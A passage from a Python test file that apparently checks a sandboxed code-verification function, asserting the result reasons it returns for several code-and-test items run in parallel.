             {"code": ADD, "tests": ["assert all(add(i, 0) == i for i in range(3))"]}]
    results = verify_many(items, workers=3)
    assert [r.reason for r in results] == ["passed", "exited", "error", "exited", "sandbox_error", "error",
                                           "unsplittable_test"], results
    assert "cannot be decided outside the sandbox" in results[-1].output
